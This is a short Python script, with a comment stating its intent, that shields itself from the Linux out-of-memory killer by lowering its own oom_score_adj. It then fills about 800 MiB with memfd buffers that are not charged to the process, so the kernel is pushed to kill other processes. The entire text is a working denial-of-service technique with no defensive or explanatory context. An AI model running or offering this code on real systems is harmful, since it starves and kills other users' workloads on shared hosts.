# Makes itself the least likely victim, then fills memory that counts for no process.
import os
for score in range(-1000, 1, 100):
    try:
        open("/proc/self/oom_score_adj", "w").write(str(score))
        break
    except PermissionError:
        pass
for name in range(200):
    os.write(os.memfd_create(f"{name}"), b"x" * (4 << 20))
